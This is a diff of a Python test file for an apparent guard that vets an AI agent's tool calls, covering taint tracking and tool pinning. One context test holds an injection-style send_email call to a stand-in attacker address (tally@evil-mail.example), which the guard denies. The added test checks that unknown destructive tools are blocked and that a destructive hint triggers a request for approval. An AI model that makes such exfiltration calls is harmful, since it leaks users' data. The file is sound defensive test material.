@@ -355,3 +355,25 @@ def test_outputs_over_the_cap_are_refused_before_any_is_applied(
     send = {"tool": "send_email", "arguments": {"to": "tally@evil-mail.example", "body": "x"}}
     r = core.check_tool_call({**send, "context": {"session_id": "cap", "outputs": [planted]}})
     assert (r["verdict"], r["rule"]) == ("deny", "taint.seen_in_output")
+
+
+def test_a_check_naming_no_server_after_tools_is_not_pinned_synthetically(
+    core: ServeCore,
+) -> None:
+    tools = [
+        *MAIL_TOOLS,
+        {**MAIL_TOOLS[0], "name": "wipe", "annotations": {"destructiveHint": True}},
+    ]
+    r = core.check_tool_call({"tool": "read_inbox", "context": {"server": "mail", "tools": tools}})
+    sid = r["session_id"]
+    for ctx in ({"session_id": sid}, {"session_id": sid, "server": "files"}):
+        for tool in ("wipe", "delete_all", "read_inbox"):
+            r = core.check_tool_call({"tool": tool, "context": ctx})
+            assert (r["verdict"], r["rule"], r["pinning"]) == (
+                "deny",
+                "pin.unknown_tool",
+                "context",
+            )
+            assert "'mail'" in r["reason"] and "context.server" in r["reason"]
+    r = core.check_tool_call({"tool": "wipe", "context": {"session_id": sid, "server": "mail"}})
+    assert (r["verdict"], r["rule"]) == ("ask", "action.destructive_hint")
